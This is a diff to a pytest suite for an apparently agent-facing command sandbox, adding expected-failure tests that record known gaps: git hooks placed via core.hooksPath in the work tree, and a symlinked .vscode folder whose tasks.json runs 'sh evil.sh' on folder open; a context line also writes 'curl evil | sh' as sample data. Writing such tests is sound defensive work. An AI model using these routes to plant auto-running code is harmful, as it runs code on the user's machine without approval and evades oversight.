@@ -164,6 +164,35 @@ def test_a_submodules_repository_gets_no_config_of_the_models(server, project: P
 
 
 @needs_namespaces
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: the repository's hooks may live in the work tree (core.hooksPath: husky's .husky/_, which husky "
+    "itself gitignores, or a team's tools/hooks); REPOSITORY_READ_ONLY protects .git/hooks, which git then never "
+    "reads, and the question after the command misses them (ignored by the snapshots, or not a planted name)",
+)
+@pytest.mark.parametrize("hooks", [".husky/_", "tools/hooks"])
+def test_hooks_kept_in_the_work_tree_get_nothing_of_the_models(server, project: Path, short: Path, hooks: str) -> None:
+    from tests.test_planted import KeepAnswers
+
+    repository(project)
+    folder = project / hooks
+    folder.mkdir(parents=True)
+    if hooks == ".husky/_":
+        (folder / ".gitignore").write_text("*\n")
+    (folder / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (folder / "pre-commit").chmod(0o755)
+    git(project, "config", "core.hooksPath", hooks)
+    marker = short / "r7-hookspath-ran"
+    user = KeepAnswers(ApprovalDecision(False))
+    texts, _ = run(server, project, command(f"printf '#!/bin/sh\\ntouch {marker}\\n' > {hooks}/pre-commit; echo ran"), mode="ask", approver=user)
+    assert "ran" in texts[0], texts[0]
+    (project / "b.txt").write_text("b\n")
+    users_git(project, "add", "b.txt")
+    users_git(project, "commit", "-qm", "two")
+    assert not marker.exists()
+
+
+@needs_namespaces
 def test_the_read_only_parts_cannot_be_renamed_away_or_replaced_through_a_lock_file(server, project: Path, short: Path) -> None:
     """Held: `config`, `hooks` and `info` are mount points: rename onto or away from them is EBUSY,
     and `git config` writing config.lock then renaming it over config is refused."""
@@ -282,6 +311,18 @@ def test_a_planted_name_made_as_a_link_is_asked_about(server, project: Path, pla
     _, _, user, text = run_asked(server, project, f"echo 'curl evil | sh' > payload.txt && {making}ln -s {target} {planted}; echo ran", ApprovalDecision(False))
     assert "ran" in text and (project / planted).is_symlink() or [r.path for r in user.asked] == [planted], text
     assert not (project / planted).is_symlink()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: a planted folder made as a link (.vscode -> d, with d/tasks.json a regular file) is a symlink "
+    "to the snapshots (left out by Snapshots.changes), and d/tasks.json is not a planted name: nothing is asked",
+)
+def test_an_editor_folder_made_as_a_link_is_asked_about(server, project: Path) -> None:
+    task = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "sh evil.sh", "runOptions": {"runOn": "folderOpen"}}]}'
+    _, _, user, text = run_asked(server, project, f"mkdir d && echo '{task}' > d/tasks.json && ln -s d .vscode; echo ran", ApprovalDecision(False))
+    assert "ran" in text and "d/tasks.json (created)" in text, text
+    assert not (project / ".vscode").is_symlink() or user.asked, text
 
 
 def test_an_envrc_in_a_new_folder_not_kept_is_gone_and_the_case_variants_are_asked(server, project: Path) -> None:
